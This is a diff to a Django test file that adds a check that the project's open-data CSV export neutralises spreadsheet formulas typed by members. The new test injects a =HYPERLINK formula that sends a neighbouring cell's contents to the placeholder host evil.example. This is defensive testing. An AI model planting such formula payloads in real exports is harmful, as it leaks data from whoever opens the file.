@@ -19,6 +19,7 @@ from django.utils.html import escape
 from ponte.core.tests.helpers import CAVALESE, italian, italian_html
 from ponte.marketplace.models import Exchange
 from ponte.pathways.models import Consent, Person
+from ponte.projects.models import SubProject
 from ponte.reports.indicators import INDICATORS, SUPPRESSED
 from ponte.reports.opendata import last_complete_year, open_indicators
 from ponte.reports.tests.test_indicators_dataset import build_dataset
@@ -250,3 +251,15 @@ def test_the_definitions_page_explains_each_indicator_and_the_suppression(client
 @pytest.mark.parametrize("address", [PAGE, CSV, JSON, DEFINITIONS])
 def test_open_data_only_answers_reads(client, db, address):
     assert client.post(address, {"year": 2025}).status_code == 405
+
+
+def test_no_cell_of_the_csv_is_a_formula(client, data):
+    """ponte/core/exports.py: titles and labels come from what members typed."""
+    formula = '=HYPERLINK("http://evil.example/?"&B3,"Laboratorio")'
+    SubProject.objects.filter(title="Laboratorio").update(title=formula)
+    response = client.get(CSV, {"year": 2025})
+    cells = [
+        cell for line in csv.reader(io.StringIO(response.content.decode("utf-8"))) for cell in line
+    ]
+    assert not [cell for cell in cells if cell[:1] in ("=", "+", "@", "\t", "\r")]
+    assert not [cell for cell in cells if cell.startswith("-") and not cell[1:2].isdigit()]
